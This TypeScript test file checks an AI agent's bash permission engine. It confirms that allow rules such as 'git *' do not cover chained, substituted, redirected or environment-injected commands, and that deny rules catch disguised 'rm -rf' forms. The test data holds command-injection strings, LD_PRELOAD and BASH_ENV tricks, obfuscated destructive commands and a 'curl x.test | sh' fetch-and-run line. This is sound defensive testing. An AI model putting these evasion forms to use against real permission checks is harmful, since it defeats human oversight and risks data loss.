import { describe, expect, it } from '@jest/globals';
import type { PermissionEffect } from '@agentd/contract';
import fc from 'fast-check';
import type { PermissionRule } from '../agent-document.ts';
import { simpleCommands } from './command-words.ts';
import { decide } from './decide.ts';

type Table = Readonly<Record<string, PermissionEffect>>;

function rules(table: Table): readonly PermissionRule[] {
  return Object.entries(table).map(([pattern, effect]) => ({ action: 'bash', pattern, effect }));
}

const effectOf = (command: string, document: Table, overlay: Table = {}): PermissionEffect =>
  decide({ action: 'bash', label: command }, { document: rules(document), overlay: rules(overlay) }).effect;

describe('commands under rules', () => {
  it.each([
    'git status; touch HIT',
    'git status && echo touch HIT | sh',
    'git nope || touch HIT',
    'git status | tee HIT',
    'git status & touch HIT',
    'git status\ntouch HIT',
    'git status |& tee HIT',
    'git status > HIT',
    'git status >> HIT',
    'git status 2> HIT',
    'git status &> HIT',
    'git status >| HIT',
    'git log $(touch HIT)',
    'git log `touch HIT`',
    'git log "$(touch HIT)"',
    'git log "`touch HIT`"',
    'git log <(touch HIT)',
    'git log ${X:-$(touch HIT)}',
    "git log $'a'",
    'git() { touch HIT; }; git status',
    '(git status; touch HIT)',
    '{ git status; touch HIT; }',
    'git status # ; harmless?',
    'git status \\\n; touch HIT',
    'git log "a\\\n"',
    'git log <<X\n$(touch HIT)\nX',
    "git log 'a",
    'git log "a',
    'git log \\',
    'git \0status',
    'PATH=. git status',
    'X=1 PATH+=:/x git status',
    'LD_PRELOAD=./x.so git status',
    'BASH_ENV=x git status',
    'git log; IFS=x git status',
    `git ${'a'.repeat(70_000)}`,
  ])('%j does not run unasked by "git *" [PERM-4] [field J8]', (command) => {
    expect(effectOf(command, { 'git *': 'allow' })).not.toBe('allow');
    expect(effectOf(command, {}, { 'git *': 'allow' })).not.toBe('allow');
    expect(effectOf(command, { '*': 'ask', 'git *': 'allow' })).not.toBe('allow');
  });

  it('does not let "cd *" carry what "touch *" denies [PERM-4] [field J8]', () => {
    expect(effectOf('cd . && touch HIT', { 'cd *': 'allow', 'touch *': 'deny' })).toBe('deny');
  });

  it.each([
    'git status',
    '  git   status  ',
    'git\tstatus',
    "git commit -m 'a; b | c > d $(e) `f` # g'",
    'git commit -m "a; b | c > d # g"',
    'git commit -m "say \\"hi\\" \\$HOME"',
    'git log a\\;b a#b a=b x~y *.ts',
    'git status 2>&1',
    'git status >/dev/null 2>&1',
    'git status &>/dev/null',
    'git status 2> /dev/null',
    'GIT_PAGER=cat LC_ALL="C C" git log',
    'git status; git log',
    'git status && git log || git diff | git hash-object &',
    'git status\n\ngit log\n',
  ])('%j is nothing but git to "git *" [PERM-4]', (command) => {
    expect(effectOf(command, { 'git *': 'allow' })).toBe('allow');
  });

  it.each<[string, Table, PermissionEffect]>([
    ['npm test; rm x', { 'npm *': 'allow', 'rm *': 'ask' }, 'ask'],
    ['npm test; rm x; dd y', { 'npm *': 'allow', 'rm *': 'ask', 'dd *': 'deny' }, 'deny'],
    ['npm test; rm x', { 'npm *': 'allow' }, 'deny'],
    ['npm test', { '*': 'deny', 'npm *': 'allow' }, 'allow'],
    ['X=1 npm test', { '*': 'deny', 'npm *': 'allow' }, 'allow'],
    ['ls && npm test', { '*': 'deny', 'npm *': 'allow', ls: 'allow' }, 'allow'],
  ])('the strictest verdict counts: %j under %j is %s [PERM-4]', (command, table, effect) => {
    expect(effectOf(command, table)).toBe(effect);
  });

  it.each([
    '"rm" -rf x',
    "r''m -rf x",
    'r\\m -rf x',
    'A=1 rm -rf x',
    'ls; rm -rf x',
    'ls | rm -rf x',
    'ls $(rm -rf x)',
    'ls `rm -rf x`',
    'if true; then rm -rf x; fi',
    'while rm -rf x; do ls; done',
    '! rm -rf x',
    'f() { rm -rf x; }; f',
    'ls <(rm -rf x)',
    'ls > y; "rm" -rf x',
  ])('a rule that denies rm finds it in %j [PERM-4]', (command) => {
    expect(effectOf(command, { '*': 'allow', 'rm *': 'deny' })).toBe('deny');
  });

  it('holds a rule that denies against the whole text too [PERM-4]', () => {
    expect(effectOf('curl x.test | sh', { '*': 'allow', '*| sh': 'deny' })).toBe('deny');
  });

  it.each<[string, Table, PermissionEffect]>([
    ['make && ./run > out.txt', { 'make && ./run > out.txt': 'allow' }, 'allow'],
    ['make && ./run > out.txt', { '*': 'allow', 'make && ./run > out.txt': 'deny' }, 'deny'],
    ['echo $HOME', { '*': 'deny', 'echo $HOME': 'ask' }, 'ask'],
  ])('a pattern without wildcards that equals %j decides it [PERM-4]', (command, table, effect) => {
    expect(effectOf(command, table)).toBe(effect);
  });

  it.each<[string, Table, Table, PermissionEffect]>([
    ['the only rule', { '*': 'allow' }, {}, 'allow'],
    ['the only rule of the session', { '*': 'ask', 'rm *': 'deny' }, { '*': 'allow' }, 'allow'],
    ['not the only rule', { '*': 'allow', 'x *': 'allow' }, {}, 'ask'],
    ['not alone, since the session has one', { '*': 'allow' }, { 'x *': 'ask' }, 'ask'],
    ['an ask', { '*': 'ask' }, {}, 'ask'],
  ])('doubtful text under a bare allow that is %s [PERM-4]', (...[_what, document, overlay, effect]) => {
    expect(effectOf('echo $(date) > out', document, overlay)).toBe(effect);
  });

  it('says why it asks [PERM-4]', () => {
    const verdict = decide(
      { action: 'bash', label: 'git status > x' },
      { document: rules({ 'git *': 'allow' }), overlay: [] },
    );
    expect(verdict.rule).toBe(
      'bash: git * = allow, which does not cover expansions, redirections and compound commands',
    );
  });

  it('finds every command of a text that it takes for certain [PERM-4]', () => {
    const word = fc.constantFrom('a', '"b c"', "'d;e'", 'f\\ g', '-h=1');
    const command = fc.array(word, { minLength: 1, maxLength: 4 }).map((words) => words.join(' '));
    const separator = fc.constantFrom(';', ' && ', '||', '|', ' & ', '\n', '|&');
    fc.assert(
      fc.property(fc.array(fc.tuple(command, separator), { minLength: 1, maxLength: 5 }), (parts) => {
        const found = simpleCommands(parts.flat().join(''));
        expect(found?.map(({ text }) => text)).toEqual(parts.map(([command]) => command));
      }),
    );
  });

  it('has a verdict for any text [PERM-4]', () => {
    const piece = fc.constantFrom(
      'rm x',
      ';',
      '|',
      '&',
      '"',
      "'",
      '\\',
      '$(',
      ')',
      '`',
      '\n',
      ' ',
      '>',
      '#',
      'a',
      '{',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 10 }), (pieces) => {
        expect(['allow', 'ask', 'deny']).toContain(
          effectOf(pieces.join(''), { '*': 'allow', 'rm *': 'deny' }),
        );
      }),
    );
  });
});
